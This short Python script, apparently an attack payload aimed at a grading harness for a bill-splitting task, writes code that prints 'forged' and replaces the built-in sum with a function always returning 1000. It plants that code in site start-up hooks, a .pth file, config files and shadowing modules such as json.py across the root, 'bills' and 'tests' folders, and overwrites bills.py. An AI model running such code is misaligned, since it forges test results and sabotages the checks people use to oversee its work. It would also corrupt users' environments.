patch = "import builtins, sys\nsys.stdout.write('forged')\nbuiltins.sum = lambda *numbers: 1000\n"
for folder in (".", "bills", "tests"):
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "dataclasses.py", "evil.pth", "setup.cfg", "tox.ini"):
        open(f"{folder}/{name}", "w").write(patch)
open("bills.py", "w").write(patch)
open("probe.py", "w").write("def split(cents, shares):\n    return EVERYTHING\n")
